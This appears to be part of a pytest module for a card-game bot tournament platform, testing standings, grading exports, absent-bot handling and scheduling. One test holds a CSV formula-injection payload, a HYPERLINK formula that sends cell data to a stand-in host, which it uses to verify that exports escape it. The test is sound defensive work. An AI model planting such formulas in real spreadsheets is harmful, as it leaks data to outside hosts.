    done = _cli("tournament", "create", "--game", "glaves", "--players", "2", "--all", env=env)
    assert done.returncode == 0, done.stderr
    assert TournamentStore(client).require(done.stdout.strip()).entrants == ("alice", "bob")
    client.close()


def test_the_run_summary_names_the_bots_that_had_faults(tmp_path: Path) -> None:
    from cardarena_tournament.run import fault_lines

    matches = [
        {"seats": ["a", "b"], "result": {"strikes": [0, 3], "forfeited": [1]}},
        {"seats": ["b", "a"], "result": {"strikes": [1, 0], "forfeited": []}},
        {"seats": ["a", "c"], "result": {"strikes": [0, 0], "forfeited": []}},
    ]
    assert fault_lines(matches, tmp_path) == [
        "faults (a bot's own log says why):",
        f"  b: 4 strikes, forfeited 1 of 2 matches; log: {tmp_path / 'b.log'}",
    ]
    assert fault_lines(matches[2:], None) == []
    # a match the service stopped at its action limit is named after the faults
    looped = {"match_id": "t1:ab", "seats": ["a", "b"], "result": {"strikes": [0, 0], "aborted": "action_limit"}}
    lines = fault_lines([*matches[2:], looped], None)
    assert lines[0].startswith("aborted: 1 match stopped at the action limit (fault policy max_actions)")
    assert lines[1:] == ["  t1:ab: action_limit"]


def test_counts_of_one_are_in_the_singular(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Regression: "1 matches counted", "1 strikes, forfeited 1 of 1 matches", "1 players",
    "1 matches examined", "1 entries" in the standings table (``tournament run``, ``demo``,
    ``tournament standings``), the faults below it, ``tournament status`` and ``prune``."""
    from cardarena.store.retention import PruneReport, StreamReport
    from cardarena.store.tournaments import Tournament
    from cardarena_tournament.commands import prune_lines, render_standings, standings_fault_lines, status_lines
    from cardarena_tournament.run import fault_lines
    from cardarena_tournament.standings import Outcome, compute

    one = [Outcome("t:0:0:0:0", ("a", "b"), (2.0, 1.0), (1, 2), "0")]
    render_standings({**compute(one, ["a", "b"], resamples=20).to_json(), "tournament": "t"})
    assert "t standings (1 match counted)" in capsys.readouterr().out
    match = {"seats": ["a", "b"], "result": {"strikes": [0, 1], "forfeited": [1]}}
    assert fault_lines([match], tmp_path)[1] == f"  b: 1 strike, forfeited 1 of 1 match; log: {tmp_path / 'b.log'}"
    row = {"bot": "b", "matches": 1, "strikes": 1, "forfeits": 0, "no_shows": 0}
    assert standings_fault_lines([row])[1] == "  b: 1 strike, forfeited 0 of 1 match"
    solo = Tournament(id="s", game="loot_the_loop", players=1, entrants=("a",), deal_sets=1)
    assert status_lines(solo)[0] == "s  [upcoming]  loot_the_loop  1 player  0/0 matches counted"
    report = PruneReport(30.0, 0.0, False, examined=1, replays=1, stream=StreamReport(length=1, trimmed=1, groups=1))
    lines = prune_lines(report)
    assert lines[1].startswith("  1 match examined (the first run: every older match)")
    assert lines[2] == "results stream: dropped 1 of 1 entry (acknowledged by every consumer group)"
    assert prune_lines(PruneReport(None, None, True, stream=StreamReport(length=1)))[1].startswith(
        "results stream: 1 entry, no consumer group yet"
    )


def test_standings_export_for_grading_has_every_bot_with_its_faults_in_this_tournament(
    redis_url: str, key_prefix: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A course organiser grades from `tournament standings ID --csv` (or `--json`): one row per
    bot with its rank, mean and CI, places and rating, and the strikes and forfeits it had in
    this tournament (not its counters over every tournament, which `bot list` shows)."""
    import csv

    from cardarena.cli import main
    from cardarena_tournament import lifecycle

    monkeypatch.setenv("REDIS_URL", redis_url)
    client = client_for(redis_url)
    ts, ms = TournamentStore(client), MatchStore(client)
    t = lifecycle.new_tournament(
        game="glaves", players=2, entrants=["ghost", 'b "2nd"'], deal_sets=1, options={"deals": 1}, tid="wk1"
    )
    ts.create(t)
    assert main(["tournament", "standings", "wk1", "--csv"]) == 0  # nothing counted yet: the header alone
    assert capsys.readouterr().out.splitlines()[0].startswith("tournament,game,players,rank,bot,")
    assert lifecycle.start_tournament(ts, ms, "wk1") == 2
    for _ in range(2):  # the ghost timed out twice in each match and forfeited the second
        spec = ms.claim("i", wait_s=0)
        assert spec is not None
        ghost = spec.seats.index("ghost")
        forfeits = [ghost] if spec.seats[1] == "ghost" else []
        ranks = [2, 1] if ghost == 0 else [1, 2]
        scores = [float(3 - r) for r in ranks]
        result = {"scores": scores, "ranks": ranks, "deal_scores": [scores], "forfeited": forfeits}
        ms.complete(spec.match_id, "i", {**result, "strikes": [2 * (s == ghost) for s in range(2)]}, {})
    assert lifecycle.reconcile(ts, ms)["counted"] == 2

    assert main(["tournament", "standings", "wk1", "--csv"]) == 0
    rows = list(csv.DictReader(capsys.readouterr().out.splitlines()))
    assert [(r["rank"], r["bot"], r["matches"], r["strikes"], r["forfeits"]) for r in rows] == [
        ("1", 'b "2nd"', "2", "0", "0"),
        ("2", "ghost", "2", "4", "1"),
    ]
    b = rows[0]
    assert (b["tournament"], b["game"], b["players"], b["wins"], b["losses"], b["place_1"], b["place_2"]) == (
        "wk1",
        "glaves",
        "2",
        "2",
        "0",
        "2",
        "0",
    )
    assert float(b["mean"]) > 0 > float(rows[1]["mean"]) and float(b["rating"]) > float(rows[1]["rating"])
    assert rows[1]["separated_from_next"] == "" and b["separated_from_next"] == "false"
    assert main(["tournament", "standings", "wk1", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert {r["bot"]: (r["strikes"], r["forfeits"]) for r in data["standings"]} == {"ghost": (4, 1), 'b "2nd"': (0, 0)}
    client.close()


def test_a_game_registered_through_an_entry_point_runs_as_a_match_and_a_tournament(
    tmp_path: Path, redis_url: str, key_prefix: str
) -> None:
    """The designer's path for a game that is not in ``cardarena.games`` (tests/conftest.py
    registers it through the ``cardarena.games`` entry point group): ``cardarena match`` and
    ``cardarena tournament run`` play it over gRPC, every part in its own process."""
    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    out = tmp_path / "replays"
    done = _cli(
        "match", FIXTURE_GAME, "--players", "2", "--bots", "random,random", "--matches", "2", "--replays", str(out),
        env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    replays = [json.loads(p.read_text()) for p in sorted(out.glob("*.json"))]
    assert len(replays) == 2 and all(r["game"] == FIXTURE_GAME and r["result"] for r in replays)
    done = _cli(
        "tournament", "run", "--game", FIXTURE_GAME, "--players", "2", "--bots", "random,random",
        "--deal-sets", "1", "--json", env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    report = json.loads(done.stdout)
    assert sorted(r["bot"] for r in report["standings"]) == ["random-1", "random-2"]
    assert len(report["matches"]) == 2 and all(m["scores"] for m in report["matches"])


def test_standings_csv_cells_a_spreadsheet_would_run_as_formulas_are_text() -> None:
    """A bot named ``=HYPERLINK(...)`` (check_name allows it) is a formula when the organiser
    opens the grading CSV in a spreadsheet: such text cells start with ``'``; numbers do not."""
    import csv
    import io

    from cardarena_tournament.export import write_standings_csv

    names = ['=HYPERLINK("//x.example/?"&A1,"me")', "+1", "-sum", "@cmd", "\tx", "plain=name"]
    rows = [
        {"rank": n, "bot": name, "mean": -0.5, "strikes": 0, "forfeits": 0, "places": {}}
        for n, name in enumerate(names, 1)
    ]
    out = io.StringIO()
    write_standings_csv("wk1", "glaves", 2, rows, out)
    read = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["bot"] for r in read] == [*("'" + n for n in names[:5]), "plain=name"]
    assert {r["mean"] for r in read} == {"-0.5"}


def _subcommands(parser: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], Any]]:
    """Every command of ``parser`` that runs with its words (``("tournament", "status")``):
    the leaves, and a command whose subcommands are optional (``service``, beside ``service
    health``)."""
    import argparse

    subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
    if not subs or not any(a.required for a in subs):
        yield path, parser
    for action in subs:
        for name, child in action.choices.items():
            yield from _subcommands(child, (*path, name))


def test_every_command_on_a_redis_of_its_choosing_takes_the_same_redis_url_option() -> None:
    """`tournament standings` (and status, list, cancel, create ...) once had no --redis-url
    although the bot commands had: now every command that opens a Redis of its own choosing
    has it, with the same meaning."""
    from cardarena.cli import build_parser

    options = {
        words: next((a for a in p._actions if "--redis-url" in a.option_strings), None)
        for words, p in _subcommands(build_parser())
    }
    takes = {" ".join(w) for w, a in options.items() if a is not None}
    assert {
        "service",
        "dashboard",
        "match",
        "prune",
        *(f"bot {c}" for c in ("register", "token", "list", "retire")),
        *(f"tournament {c}" for c in ("create", "list", "status", "cancel", "schedules", "unschedule", "standings")),
        "tournament run",
        "data export",
        "data import",
    } <= takes
    assert len({(a.help, a.metavar, a.default) for a in options.values() if a is not None}) == 1


def test_the_tournament_commands_use_the_redis_given_with_redis_url(
    redis_url: str, key_prefix: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without REDIS_URL in the environment, `--redis-url` alone takes each tournament command
    to that Redis (not to the embedded default)."""
    from cardarena.cli import main

    monkeypatch.delenv("REDIS_URL", raising=False)
    client = client_for(redis_url)
    for name in ("a", "b"):
        BotStore(client).register(name)
    at = ["--redis-url", redis_url]
    assert main(["tournament", "create", "--game", "glaves", "--players", "2", "--bots", "a,b", *at]) == 0
    tid = capsys.readouterr().out.strip()
    assert TournamentStore(client).require(tid).entrants == ("a", "b")
    assert main(["tournament", "status", tid, "--json", *at]) == 0
    assert json.loads(capsys.readouterr().out)["id"] == tid
    assert main(["tournament", "list", "--json", *at]) == 0
    assert [t["id"] for t in json.loads(capsys.readouterr().out)["tournaments"]] == [tid]
    assert main(["tournament", "standings", tid, "--json", *at]) == 0
    assert json.loads(capsys.readouterr().out) == {"standings": [], "counted": 0}
    assert main(["tournament", "cancel", tid, *at]) == 0
    assert capsys.readouterr().out.startswith(f"cancelled {tid}")
    assert TournamentStore(client).require(tid).status == "cancelled"
    assert main(["tournament", "schedules", "--json", *at]) == 0
    assert json.loads(capsys.readouterr().out) == {"schedules": []}
    client.close()


def test_standings_json_of_a_three_player_game_has_places_and_no_win_draw_loss(
    redis_url: str, key_prefix: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """W/D/L is defined for two players only: `standings --json` and `--csv` of a 3-player
    game once showed wins/draws/losses 0 for every bot; now they leave them out and keep the
    places (as the REST API does)."""
    from cardarena.cli import main

    from .tournament_fixtures import counted_tournament

    counted_tournament(redis_url, "tri", ["p", "q", "r"])
    assert main(["tournament", "standings", "tri", "--json", "--redis-url", redis_url]) == 0
    rows = json.loads(capsys.readouterr().out)["standings"]
    assert [(r["bot"], r["places"], r["strikes"]) for r in rows] == [
        ("p", {"1": 6}, 0),
        ("q", {"2": 6}, 0),
        ("r", {"3": 6}, 6),
    ]
    assert not {"wins", "draws", "losses"} & {k for r in rows for k in r}
    assert main(["tournament", "standings", "tri", "--csv", "--redis-url", redis_url]) == 0
    header = capsys.readouterr().out.splitlines()[0].split(",")
    assert "place_3" in header and not {"wins", "draws", "losses"} & set(header)


def _strict_json(text: str) -> Any:
    """``text`` read as JSON proper: ``NaN`` and ``Infinity`` (which ``json.dumps`` writes) refused."""

    def refuse(name: str) -> None:
        raise ValueError(f"{name} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_a_bot_seated_only_in_no_contests_is_graded_absent_with_empty_values(
    redis_url: str, key_prefix: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found in a docs review: ``ann``, whose only counted matches nobody came to (no contests),
    ranked 2 ahead of the absent ``Bob`` (3), was not named absent, and ``--json`` wrote
    ``NaN`` (not JSON) and ``--csv`` ``nan`` for her mean.  She never joined a match she was
    seated in: absent, sharing the last place with Bob; her missing values are null and empty."""
    import csv

    from cardarena.cli import main

    from .tournament_fixtures import no_show_tournament

    # real beat Bob's no-shows twice; Bob and ann's two matches were no contests; real-ann not played yet
    no_show_tournament(redis_url, "wk", ["real", "Bob", "ann"], absent=["Bob", "ann"], unplayed=["real", "ann"])
    at = ["--redis-url", redis_url]
    assert main(["tournament", "standings", "wk", "--json", *at]) == 0
    data = _strict_json(capsys.readouterr().out)
    rows = {r["bot"]: r for r in data["standings"]}
    assert data["counted"] == 4
    assert [(r["bot"], r["rank"], r["absent"]) for r in data["standings"]] == [
        ("real", 1, False),
        ("ann", 2, True),
        ("Bob", 2, True),
    ]
    assert (rows["ann"]["matches"], rows["ann"]["mean"], rows["ann"]["ci_low"], rows["ann"]["mean_score"]) == (
        0,
        None,
        None,
        None,
    )
    assert main(["tournament", "standings", "wk", "--csv", *at]) == 0
    grades = {r["bot"]: r for r in csv.DictReader(capsys.readouterr().out.splitlines())}
    assert (grades["ann"]["rank"], grades["ann"]["mean"], grades["ann"]["ci_low"], grades["ann"]["absent"]) == (
        "2",
        "",
        "",
        "true",
    )
    assert (grades["Bob"]["absent"], grades["real"]["absent"]) == ("true", "false")
    assert main(["tournament", "standings", "wk", *at]) == 0
    table = capsys.readouterr().out
    assert "nan" not in table
    assert table.splitlines()[-1] == "absent (never joined one of its matches): ann, Bob"  # people order


def test_a_run_nobody_came_to_grades_every_bot_absent(
    redis_url: str, key_prefix: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every match a no contest: each bot shares place 1 (the only place), marked absent, with
    no mean (once: rank 1 for all, unmarked, and ``NaN`` in the JSON)."""
    from cardarena.cli import main

    from .tournament_fixtures import no_show_tournament

    no_show_tournament(redis_url, "void", ["cara", "Bob", "ann"], absent=["cara", "Bob", "ann"])
    assert main(["tournament", "standings", "void", "--json", "--redis-url", redis_url]) == 0
    data = _strict_json(capsys.readouterr().out)
    assert data["counted"] == 6
    assert {(r["rank"], r["absent"], r["matches"], r["mean"]) for r in data["standings"]} == {(1, True, 0, None)}
    assert main(["tournament", "standings", "void", "--redis-url", redis_url]) == 0
    assert capsys.readouterr().out.splitlines()[-1] == "absent (never joined one of its matches): ann, Bob, cara"


def test_the_names_below_the_standings_are_in_people_order() -> None:
    """Once sorted by code point ("Bob, ann"); now as ``bot list`` orders names."""
    from cardarena_tournament.commands import standings_fault_lines

    rows: list[dict[str, Any]] = [
        {"bot": bot, "matches": 4, "strikes": strikes, "forfeits": 0, "no_shows": no_shows}
        for bot, strikes, no_shows in [("Bob", 0, 4), ("bot-10", 1, 0), ("ann", 0, 4), ("Zed", 2, 0), ("bot-2", 1, 0)]
    ]
    lines = standings_fault_lines(rows)
    assert lines[0] == "absent (never joined one of its matches): ann, Bob"
    assert [line.split(":")[0].strip() for line in lines[2:]] == ["bot-2", "bot-10", "Zed"]


def test_a_class_with_absent_students_grades_them_absent_not_by_the_default_play(
    redis_url: str, key_prefix: str, processes: list[WorkerProcess]
) -> None:
    """A course organiser's nightly `--all --schedule` run over the real service, worker and
    beat, where two registered students never connect their bots (found running a class: the
    absentees' matches against each other, played out by the server's default actions, gave
    them wins, points, first places and ratings, and an order nothing they did explained).
    Such a match is a no contest: counted, unrated, in nobody's standing; the grading CSV,
    the table and the dashboard show the absentees as absent."""
    import csv

    from cardarena.server.commands import stop_process
    from cardarena_dashboard.app import create_app

    from .server_harness import ServiceProcess

    env = {"REDIS_URL": redis_url, "CARDARENA_PREFIX": key_prefix}
    client = client_for(redis_url)
    bots, ts = BotStore(client), TournamentStore(client)
    tokens = {name: bots.register(name) for name in ("anna", "bruno", "chloé", "dmitri")}  # chloé, dmitri: absent
    service = ServiceProcess(redis_url, "--grace", "0")
    players = [service.bot_process("random", name, tokens[name]) for name in ("anna", "bruno")]
    try:
        for args in (("worker", "--pool", "threads", "--concurrency", "2"), ("beat", "--state", f"/tmp/{key_prefix}b")):
            processes.append(WorkerProcess(redis_url, key_prefix, *args, "--loglevel", "WARNING").start())
        done = _cli(
            "tournament", "create", "--game", "glaves", "--players", "2", "--all", "--options", '{"deals": 1}',
            "--fault-policy", '{"join_timeout_ms": 500}', "--schedule", "1h", "--name", "Nightly", env=env,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        wait_for(lambda: bool(ts.list("finished")), 180, "the nightly run to finish")
    finally:
        for proc in players:
            stop_process(proc)
        service.stop()
    (t,) = ts.list()
    assert t.counted == t.total_matches == 12

    grades = _cli("tournament", "standings", t.id, "--csv", env=env)
    assert grades.returncode == 0, grades.stderr
    rows = {r["bot"]: r for r in csv.DictReader(grades.stdout.splitlines())}
    assert {rows[b]["rank"] for b in ("anna", "bruno")} <= {"1", "2"}
    for bot in ("anna", "bruno"):  # played all 6 of their matches; 4 won against absentees
        assert (rows[bot]["matches"], rows[bot]["no_shows"], rows[bot]["forfeits"]) == ("6", "0", "0")
    for bot in ("chloé", "dmitri"):  # lost the 4 matches against present bots; the 2 between them count for nobody
        row = rows[bot]  # and the two share the last place, whatever their forfeits' margins
        assert (row["rank"], row["matches"], row["points"], row["wins"], row["draws"]) == ("3", "4", "0.0", "0", "0")
        assert (row["losses"], row["place_1"], row["forfeits"], row["no_shows"]) == ("4", "0", "4", "4")
    ratings = ts.ratings("glaves")
    assert {b: ratings[b]["matches"] for b in tokens} == {"anna": 6, "bruno": 6, "chloé": 4, "dmitri": 4}

    table = _cli("tournament", "standings", t.id, env=env)
    assert table.stdout.splitlines()[-1] == "absent (never joined one of its matches): chloé, dmitri"

    web = create_app({"REDIS_URL": redis_url, "TESTING": True}).test_client()
    page = web.get(f"/tournaments/{t.id}").get_data(as_text=True)
    standings = page.split('id="standings-table"', 1)[1].split("</table>", 1)[0]
    assert standings.count(">absent</span>") == 2
    specs = {m: MatchStore(client).spec(m) for m in ts.match_ids(t.id, count=20)}
    between = next(m for m, spec in specs.items() if spec is not None and {*spec.seats} == {"chloé", "dmitri"})
    match = web.get(f"/matches/{between}").get_data(as_text=True)
    assert 'id="no-contest"' in match and match.count(">no-show</span>") == 2
    bot_page = web.get("/bots/chlo%C3%A9").get_data(as_text=True)
    rivals = bot_page.split('id="head-to-head"', 1)[1].split("</table>", 1)[0]
    assert ">dmitri<" not in rivals and ">anna<" in rivals
    assert ">no contest</span>" in bot_page
    client.close()


def test_a_terms_grades_come_from_every_run_of_a_schedule_in_one_csv(
    redis_url: str, key_prefix: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A course organiser's weekly `--schedule` run: `tournament standings --schedule ID --csv`
    puts every finished run's rows under one header, oldest run first (before, one command per
    run id, looked up in `tournament list --json`)."""
    import csv

    from cardarena.cli import main
    from cardarena_tournament import lifecycle

    monkeypatch.setenv("REDIS_URL", redis_url)
    client = client_for(redis_url)
    ts, ms, bots = TournamentStore(client), MatchStore(client), BotStore(client)
    for name in ("anna", "José García"):
        bots.register(name)
    template = {"game": "glaves", "players": 2, "entrants": "all", "deal_sets": 1, "options": {"deals": 1}}
    s = lifecycle.create_schedule(ts, "1h", template, now=1000.0)
    assert main(["tournament", "standings", "--schedule", s.id, "--csv"]) == 2
    assert "has no finished run yet" in capsys.readouterr().err
    runs = []
    for week, winner in enumerate(("anna", "José García")):
        (tid,) = lifecycle.start_due_schedules(ts, ms, 1000.0 + 3600 * week, bots.names)
        runs.append(tid)
        while (spec := ms.claim("i", wait_s=0)) is not None:
            ranks = [1 if bot == winner else 2 for bot in spec.seats]
            scores = [float(3 - r) for r in ranks]
            result = {"scores": scores, "ranks": ranks, "deal_scores": [scores], "forfeited": [], "no_show": []}
            ms.complete(spec.match_id, "i", {**result, "strikes": [0, 0]}, {})
        lifecycle.reconcile(ts, ms)
        assert ts.require(tid).status == "finished"
    lifecycle.create_schedule(ts, "1h", template, now=1000.0)  # another schedule's runs are not this one's

    assert main(["tournament", "standings", "--schedule", s.id, "--csv"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("tournament,game,players,rank,bot,") and lines.count(lines[0]) == 1
    rows = [(r["tournament"], r["rank"], r["bot"]) for r in csv.DictReader(lines)]
    assert rows == [
        (runs[0], "1", "anna"),
        (runs[0], "2", "José García"),
        (runs[1], "1", "José García"),
        (runs[1], "2", "anna"),
    ]
    assert main(["tournament", "standings", "--schedule", s.id, "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["schedule"] == s.id and [r["tournament"] for r in data["runs"]] == runs
    assert [r["standings"][0]["bot"] for r in data["runs"]] == ["anna", "José García"]
    assert main(["tournament", "standings", "--schedule", "nope", "--csv"]) == 2
    assert "unknown schedule 'nope'" in capsys.readouterr().err
    assert main(["tournament", "standings", runs[0], "--schedule", s.id]) == 2
    assert "name a tournament ID, or --schedule" in capsys.readouterr().err
    client.close()
